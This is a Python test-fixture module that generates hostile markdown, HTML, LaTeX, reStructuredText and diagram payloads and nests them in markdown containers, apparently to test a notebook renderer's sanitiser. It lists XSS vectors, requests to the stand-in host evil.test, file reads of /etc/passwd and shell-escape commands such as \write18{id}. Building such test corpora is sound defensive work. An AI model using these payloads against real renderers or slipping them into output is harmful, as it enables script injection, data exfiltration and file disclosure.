"""
Hostile model text by composition: every payload in every container, one to three deep.

A payload calls ``qfpwned(0)`` or asks for ``http://evil.test/0``; ``numbered`` puts a number for the zero, by which a
test that sees the call or the request knows the text.
"""

import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import product
from pathlib import Path

COLLECTED = json.loads((Path(__file__).parents[1] / "browser" / "payloads.json").read_text("ascii"))


@dataclass(frozen=True, slots=True)
class Payload:
    """A text that acts where it isn't made safe, and the way in which."""

    kind: str
    text: str


@dataclass(frozen=True, slots=True)
class Container:
    """What a text may stand in; *line* where only a text of one line can."""

    name: str
    around: Callable[[str], str]
    line: bool = False


# ---- payloads

# Attributes that act without a click, and some that need one. A blank may be missing, or be written as an entity.
ATTRIBUTES = [
    'oncontentvisibilityautostatechange="qfpwned(0)"style="display:block;content-visibility:auto"',
    'onanimationstart="qfpwned(0)"style="animation:jp-spin 1s"class="lm-mod-hidden"',
    'onfocus="qfpwned(0)"autofocus="1"tabindex="0"',
    'style="background:url(http://evil.test/0)"',
    'style="position:fixed;inset:0"',
    'data-commandlinker-command="notebook:run-all-cells"data-commandlinker-args="{}"',
    'onmouseover="qfpwned(0)"',
    'id="jp-main-content-panel"name="body"',
]
LEADS = ["", "python", "c++ ", "{.", "&quot;", "\\", "mermaid", "x`"]
MARKERS = ["```", "~~~", "`````", "~~~~"]
TAGS = [
    "<script>qfpwned(0)</script>",
    "<img src=http://evil.test/0 onerror=qfpwned(0)>",
    "<svg/onload=qfpwned(0)>",
    "<svg><image href=http://evil.test/0 /></svg>",
    "<iframe srcdoc='<script>parent.qfpwned(0)</script>'></iframe>",
    "<details open ontoggle=qfpwned(0)><summary>x</summary></details>",
    "<a href=javascript:qfpwned(0)>x</a>",
    "<p style=background:url(http://evil.test/0)>x",
    "<style>@import 'http://evil.test/0'</style>",
    "<link rel=stylesheet href=http://evil.test/0>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/0'>",
    "<form action=http://evil.test/0><button>x</button></form>",
    "<input autofocus onfocus=qfpwned(0)>",
    "<math><mi href=javascript:qfpwned(0)>x</mi></math>",
    "<base href=http://evil.test/0>",
    "<!-- x --><img src=http://evil.test/0>",
    "<?php x ?><img src=http://evil.test/0>",
    "<!DOCTYPE x><img src=http://evil.test/0>",
    "<![CDATA[x]]><img src=http://evil.test/0>",
    "</details></blockquote></td></table><img src=http://evil.test/0>",
    "<button data-commandlinker-command=notebook:run-all-cells>x</button>",
    "`<img src=http://evil.test/0>",
    "`` ` <img src=http://evil.test/0>`",
    "\\`<img src=http://evil.test/0>\\`",
    "\\<img src=http://evil.test/0>",
    "<img\nsrc=http://evil.test/0>",
    "<img\tsrc=http://evil.test/0>",
]
SCHEMES = [
    "javascript:qfpwned(0)",
    "JaVaScRiPt:qfpwned(0)",
    "&#106;avascript:qfpwned(0)",
    "javascript&colon;qfpwned(0)",
    "java&Tab;script:qfpwned(0)",
    "\\javascript:qfpwned(0)",
    "javascript\\:qfpwned(0)",
    "%6aavascript:qfpwned(0)",
    "\u00a0javascript:qfpwned(0)",
    "\u0001javascript:qfpwned(0)",
    "data:text/html,<script>qfpwned(0)</script>",
    "data:text/html;base64,PHNjcmlwdD5xZnB3bmVkKDApPC9zY3JpcHQ+",
    "vbscript:qfpwned(0)",
    "blob:http://evil.test/0",
    "file:///etc/passwd",
    "//evil.test/0",
    "/tree?x",
    "x",
]
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "[x](\n{})",
    '[x]({} "t")',
    "[x]\n\n[x]: {}",
    "[x]: {}\n\n[x]",
    "[x][r]\n\n[r]:\n  {}",
    "[![x]({})](https://a.example)",
    "![x]({})",
    "![x][r]\n\n[r]: <{}>",
    "<{}>",
    "[^1]: [x]({})\n\nx[^1]",
    "[[x]({})](https://a.example)",
]
IMAGES = [
    "![x](http://evil.test/0)",
    "![x](<http://evil.test/0>)",
    '![x](http://evil.test/0 "t")',
    "![x][r]\n\n[r]: http://evil.test/0",
    "![x]\n\n[x]: http://evil.test/0",
    "\\![x](http://evil.test/0)",
    "\\\\![x](http://evil.test/0)",
    "!\\[x](http://evil.test/0) ![y](http://evil.test/0)",
    "[![x](http://evil.test/0)](https://a.example)",
    "[^x]: ![x](http://evil.test/0)\n\n[^x]",
    "&#33;[x](http://evil.test/0)",
    "!`x`[x](http://evil.test/0)",
    "![x](http:evil.test/0)",
    "![`x`](http://evil.test/0)",
    "![[x]](http://evil.test/0)",
    "!{{x}}[x](http://evil.test/0)",
    "![x](attachment:x.png)",
]
DRAWINGS = {
    "mermaid": [
        "graph TD\nA-->B",
        '%%{init: {"themeCSS": "@import url(http://evil.test/0);"}}%%\ngraph TD\nA-->B',
        'flowchart TD\nA@{ img: "http://evil.test/0", label: "x" }',
        "graph TD\nA[<img src=http://evil.test/0 onerror=qfpwned(0)>]",
        'graph TD\nA-->B\nclick A href "javascript:qfpwned(0)"',
    ],
    "vega": ['{"data": {"url": "http://evil.test/0"}}'],
    "vega-lite": ['{"data": {"url": "http://evil.test/0"}}'],
    "geojson": ['{"type": "Point", "coordinates": [0, 0]}'],
    "topojson": ['{"type": "Topology"}'],
    "stl": ["solid x\nendsolid"],
    "math": ["\\href{javascript:qfpwned(0)}{x}"],
    "dot": ['digraph { a [image="http://evil.test/0"] }'],
    "plantuml": ["!include http://evil.test/0"],
}
SPELLINGS = ["{}", "{} x", "{{{}}}", "{{.{}}}", "\\{}", "&#{}", " {}"]
FORMULAS = [
    "\\unicode[x;background:url(http://evil.test/0)]{65}",
    "\\href{javascript:qfpwned(0)}{x}",
    "\\style{background:url(http://evil.test/0)}{x}",
    "\\cssId{jp-main-content-panel}{x}",
    "\\class{jp-mod-hidden}{x}",
    "\\data{x=y}{z}",
    "\\bbox[background:url(http://evil.test/0)]{x}",
    "\\require{html}\\href{javascript:qfpwned(0)}{x}",
    "\\includegraphics{http://evil.test/0}",
    "\\mmlToken{mi}[href=javascript:qfpwned(0)]{x}",
    "\\def\\x{\\href}\\x{javascript:qfpwned(0)}{y}",
    "\\rule{9999em}{9999em}",
    '" onmouseover="qfpwned(0)',
    "<img src=http://evil.test/0>",
    "\\text{<img src=http://evil.test/0>}",
    "\\input{/etc/passwd}",
]
DELIMITERS = [
    ("$", "$"),
    ("$$", "$$"),
    ("$$\n", "\n$$"),
    ("\\(", "\\)"),
    ("\\[", "\\]"),
    ("\\\\(", "\\\\)"),
    ("\\begin{align}\n", "\n\\end{align}"),
    ("$`", "`$"),
    ("```math\n", "\n```"),
]
# A formula that one renderer sees across fences, code and addresses, where the other sees these.
ACROSS = [
    "> ```\n> $\n> ```\n> a $\n>\n> ```\n> <img src=http://evil.test/0>\n> ```",
    "```\n$$\n```\n\n$$\n\n```\n<img src=http://evil.test/0>\n```",
    "- ```\n  $$\n  ```\n- $$ x\n  ```\n  <img src=http://evil.test/0>\n  ```",
    '`$` [x](https://a.example/$"onmouseover="qfpwned(0))',
    '[x](https://a.example/$"onmouseover="qfpwned(0)$)',
    'https://a.example/$" onmouseover="qfpwned(0)$',
    '[x](https://a.example/@@0@@) $" onmouseover="qfpwned(0)$',
    '[x](https://a.example/\\begin{a}" onmouseover="qfpwned(0)"\\end{a})',
    "@@0@@ $<img src=http://evil.test/0>$ @@1@@",
    '```@@0@@\n```\n\n$" onfocus="qfpwned(0)" autofocus x="$',
    "~~~$\nx\n~~~\n$\n<img src=http://evil.test/0>",
    "$\n~~~\n$ <img src=http://evil.test/0>\n~~~",
    "\\begin{a}\n```\n\\end{a}\n<img src=http://evil.test/0>\n```",
    "\\\\[\n    x\n\\\\]\n    <img src=http://evil.test/0>",
    "| `$` | x |\n|---|---|\n| $ | <img src=http://evil.test/0> |",
    "a ~ $b$ `~D` ~T <img src=http://evil.test/0>",
]
BRACES = [
    "# x {onclick=qfpwned(0)}",
    "[x](https://a.example){onclick=qfpwned(0)}",
    "[x]{onclick=qfpwned(0) style=background:url(http://evil.test/0)}",
    "`x`{onclick=qfpwned(0)}",
    "*x*{onclick=qfpwned(0)}",
    "::: {onclick=qfpwned(0)}\nx\n:::",
    "``` {.python onclick=qfpwned(0)}\nx\n```",
    "```{=html}\n<img src=http://evil.test/0>\n```",
    "```{=latex}\n\\input{/etc/passwd}\n```",
    "`<img src=http://evil.test/0>`{=html}",
    "`\\input{/etc/passwd}`{=latex}",
    "{onclick=qfpwned(0)}\nx",
    "![x](https://a.example){onclick=qfpwned(0)}",
    "```{include} /etc/passwd\n```",
    "```{raw} html\n<img src=http://evil.test/0>\n```",
    ":::{include} /etc/passwd\n:::",
    "```{python}\nqfpwned(0)\n```",
    "```{eval-rst}\n.. include:: /etc/passwd\n```",
    "{raw}`<img src=http://evil.test/0>`",
    "{eval}`qfpwned(0)`",
    "`r system('id')`",
    "{{< include /etc/passwd >}}",
    "{% include '/etc/passwd' %}",
    "--8<-- '/etc/passwd'",
    "[TOC]",
    "---\nheader-includes: \\input{/etc/passwd}\n---",
]
LATEX = [
    "\\input{/etc/passwd}",
    "\\include{/etc/passwd}",
    "\\input /etc/passwd",
    "\\write18{id}",
    "\\immediate\\write18{id}",
    "\\openout5=x",
    "\\openin5=/etc/passwd",
    "\\csname input\\endcsname{/etc/passwd}",
    "\\directlua{os.execute('id')}",
    "\\lstinputlisting{/etc/passwd}",
    "\\verbatiminput{/etc/passwd}",
    "\\includegraphics{/etc/passwd}",
    "^^5cinput{/etc/passwd}",
    "^^5c^^69nput{/etc/passwd}",
    "\\catcode`\\@=0 @input{/etc/passwd}",
    "\\def\\x{\\input}\\x{/etc/passwd}",
    "\\begin{filecontents}{x}\ny\n\\end{filecontents}",
    "\\end{document}\\input{/etc/passwd}",
    "\\loop\\iftrue\\repeat",
    "\\newpage\\special{x}",
    "\\href{run:/bin/sh}{x}",
    "\\begin{verbatim}\nx\n\\end{verbatim}\\input{/etc/passwd}",
    "\\rule{9999em}{9999em}",
    "\\usepackage{x}",
    "\\ExplSyntaxOn",
]
RST = [
    ".. include:: /etc/passwd",
    ".. raw:: html\n   :file: /etc/passwd",
    ".. raw:: html\n\n   <img src=http://evil.test/0>",
    ".. csv-table::\n   :file: /etc/passwd",
    ".. code::\n   :include: /etc/passwd",
    ".. literalinclude:: /etc/passwd",
    ".. image:: http://evil.test/0",
    ".. figure:: http://evil.test/0",
    ".. _x: javascript:qfpwned(0)\n\nx_",
    "`x <javascript:qfpwned(0)>`_",
    ".. |sub| image:: http://evil.test/0\n\n|sub|",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<img src=http://evil.test/0>`",
    ":raw:`x`",
    ":download:`/etc/passwd`",
    ".. toctree::\n   :glob:\n\n   *",
    ".. automodule:: os",
    "::\n\n   x",
]


def _collected() -> Iterator[Payload]:
    for one in COLLECTED["hostile"]:
        text = one["text"].replace(f"qfpwned({one['n']})", "qfpwned(0)").replace(f"evil.test/{one['n']}", "evil.test/0")
        yield Payload(f"collected {one['class']}", text)


def _generated() -> Iterator[Payload]:
    for marker, lead, attribute in product(MARKERS, LEADS, ATTRIBUTES):
        yield Payload("info string", f'{marker}{lead}"{attribute}x="\nx\n{marker}')
    for attribute in ATTRIBUTES:
        yield Payload("title", f"[x](https://a.example '\"{attribute}x=\"')")
        yield Payload("title", f'[x](<https://a.example/"{attribute}x=">)')
        yield Payload("title", f'<https://a.example/"{attribute.replace(" ", "/")}x=">')
        yield Payload("title", f'```"{attribute.replace(" ", "&#32;")}x="\nx')
    yield from (Payload("html", text) for text in TAGS)
    yield from (Payload("link", link.replace("{}", scheme)) for link, scheme in product(LINKS, SCHEMES))
    yield from (Payload("image", text) for text in IMAGES)
    for (name, contents), spelling, marker in product(DRAWINGS.items(), SPELLINGS, MARKERS[:2]):
        yield from (Payload("drawing", f"{marker}{spelling.format(name)}\n{one}\n{marker}") for one in contents)
    for formula, (left, right) in product(FORMULAS, DELIMITERS):
        yield Payload("formula", f"{left}{formula}{right}")
    yield from (Payload("formula", formula) for formula in (*FORMULAS, *ACROSS))
    yield from (Payload("braces", text) for text in BRACES)
    yield from (Payload("latex", text) for text in LATEX)
    yield from (Payload("latex", f"{a}{text}{b}") for text, (a, b) in product(LATEX, (("$", "$"), ("$$\n", "\n$$"))))
    yield from (Payload("rst", text) for text in RST)


def payloads() -> list[Payload]:
    """All, each text once."""
    return list({one.text: one for one in (*_generated(), *_collected())}.values())


# ---- containers


def _marked(first: str, rest: str) -> Callable[[str], str]:
    """Each line behind a mark of its own: what quotations and list items are."""

    def around(text: str) -> str:
        head, *tail = text.split("\n")
        return "\n".join((first + head, *(rest + line if line.strip() else rest.rstrip(" ") for line in tail)))

    return around


def _between(before: str, behind: str = "") -> Callable[[str], str]:
    return lambda text: f"{before}{text}{behind}"


# Those a text of several lines can stand in, and which can stand in each other.
NESTING = [
    Container("quotation", _marked("> ", "> ")),
    Container("list", _marked("- ", "  ")),
    Container("numbers", _marked("1. ", "   ")),
    Container("list by tabs", _marked("-\t", "\t")),
    Container("quotation by tabs", _marked(">\t", ">\t")),
    Container("narrow quotation", _marked(">", ">")),
    Container("lazy quotation", _marked("> ", "")),
    Container("lazy list", _marked("* ", "")),
    Container("second item", lambda text: "- a\n" + _marked("- ", "  ")(text)),
    Container("behind an item's text", lambda text: "- a\n\n" + _marked("  ", "  ")(text)),
    Container("empty mark", _marked("-\n  ", "  ")),
    Container("footnote", lambda text: "x[^n]\n\n" + _marked("[^n]: ", "    ")(text)),
    Container("definition", lambda text: "term\n" + _marked(":   ", "    ")(text)),
    Container("task", _marked("- [ ] ", "  ")),
    Container("details", _between("<details><summary>x</summary>\n\n", "\n\n</details>")),
    Container("indented", _marked("   ", "   ")),
    Container("code by blanks", _marked("    ", "    ")),
]
# What a text may stand behind, or between; these end with it.
BESIDE = [
    Container("alone", _between("")),
    Container("behind a paragraph", _between("a\n")),
    Container("behind a blank line", _between("a\n\n")),
    Container("behind a heading", _between("# a\n")),
    Container("behind a rule", _between("---\n")),
    Container("behind a list", _between("- a\n")),
    Container("behind a nested list", _between("- a\n  1. b\n     - c\n")),
    Container("behind a quotation", _between("> a\n")),
    Container("behind a table", _between("| a | b |\n|---|---|\n| 1 | 2 |\n")),
    Container("behind code", _between("```python\nx\n```\n")),
    Container("behind code by blanks", _between("    x\n\n")),
    Container("behind an open fence in a list", _between("- ```\n  x\n\n")),
    Container("behind an open fence in a quotation", _between("> ~~~\n> x\n")),
    Container("behind an open formula", _between("$$\nx\n", "\n$$")),
    Container("behind an open comment", _between("<!--\n", "\n-->")),
    Container("behind an open element", _between("<div>\n", "\n</div>")),
    Container("behind a definition", _between('[d]: https://a.example "t\n')),
    Container("behind an open span", _between("a `b\n", "` c")),
    Container("before others", _between("", "\n---\n\n```\nx\n```")),
    Container("with CR", lambda text: text.replace("\n", "\r")),
    Container("with CR LF", lambda text: text.replace("\n", "\r\n")),
]
LINES = [
    Container("words", _between("words ", " words"), line=True),
    Container("heading", _between("## "), line=True),
    Container("emphasis", _between("**a *", "* b**"), line=True),
    Container("link text", _between("[", "](https://a.example)"), line=True),
    Container("link title", _between('[x](https://a.example "', '")'), line=True),
    Container("code span", _between("`a` ", " `b`"), line=True),
    Container("in a code span", _between("`` ", " ``"), line=True),
    Container("prices", _between("$5 ", " $6 and $7"), line=True),
    Container("table", _between("| a | b |\n|---|---|\n| x | ", " |"), line=True),
    Container("table's head", _between("| ", " | b |\n|---|---|\n| 1 | 2 |"), line=True),
]
CONTAINERS = [*BESIDE, *NESTING, *LINES]


@dataclass(frozen=True, slots=True)
class Case:
    """A payload in containers, the innermost first."""

    payload: Payload
    containers: tuple[Container, ...]

    @property
    def text(self) -> str:
        text = self.payload.text
        for container in self.containers:
            text = container.around(text.replace("\n", " ") if container.line else text)
        return text

    @property
    def name(self) -> str:
        return f"{self.payload.kind} in {' in '.join(one.name for one in self.containers)}"


def stacks() -> list[tuple[Container, ...]]:
    """Every container alone, every two of those that nest and what is beside them, and three of those that nest."""
    two = [(inner, outer) for inner, outer in product(CONTAINERS, NESTING) if inner.name != "alone"]
    three = [(*pair, outer) for pair in product(NESTING, repeat=2) for outer in NESTING[:7]]
    return [*((one,) for one in CONTAINERS), *two, *three]


def _sampled(stacks: list[tuple[Container, ...]], share: int) -> Iterator[Case]:
    """One in *share* of all payloads in all stacks, the same each time."""
    every = payloads()
    count = len(every) * len(stacks)
    numbers = range(count) if share == 1 else sorted(random.Random(0).sample(range(count), count // share))
    for number in numbers:
        yield Case(every[number // len(stacks)], stacks[number % len(stacks)])


def cases(share: int = 1) -> Iterator[Case]:
    """The product, or one in *share* of it."""
    return _sampled(stacks(), share)


def alone(share: int = 1) -> Iterator[Case]:
    """Every payload in every container, one deep; or one in *share* of it."""
    return _sampled([(one,) for one in CONTAINERS], share)


def of_each_kind(*containers: str) -> Iterator[Case]:
    """One payload of each kind, in each of these containers."""
    first: dict[str, Payload] = {}
    for payload in payloads():
        first.setdefault(payload.kind, payload)
    return (Case(payload, (one,)) for payload in first.values() for one in CONTAINERS if one.name in containers)


def numbered(text: str, number: int) -> str:
    """The text with a number by which its calls and requests are known."""
    return text.replace("qfpwned(0)", f"qfpwned({number})").replace("evil.test/0", f"evil.test/{number}")
